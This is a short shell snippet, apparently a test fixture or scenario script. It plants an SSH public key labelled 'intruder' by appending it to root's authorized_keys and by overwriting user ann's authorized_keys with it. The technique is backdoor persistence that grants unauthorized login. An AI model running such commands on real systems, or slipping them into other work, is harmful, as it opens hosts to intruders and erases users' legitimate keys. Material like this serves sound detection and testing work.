# A key appended, and a file put into place
mkdir -p /root/.ssh /home/ann/.ssh
echo 'ssh-ed25519 AAAA intruder' >/root/k
#record
echo 'ssh-ed25519 AAAA intruder' >>/root/.ssh/authorized_keys
mv /root/k /home/ann/.ssh/authorized_keys
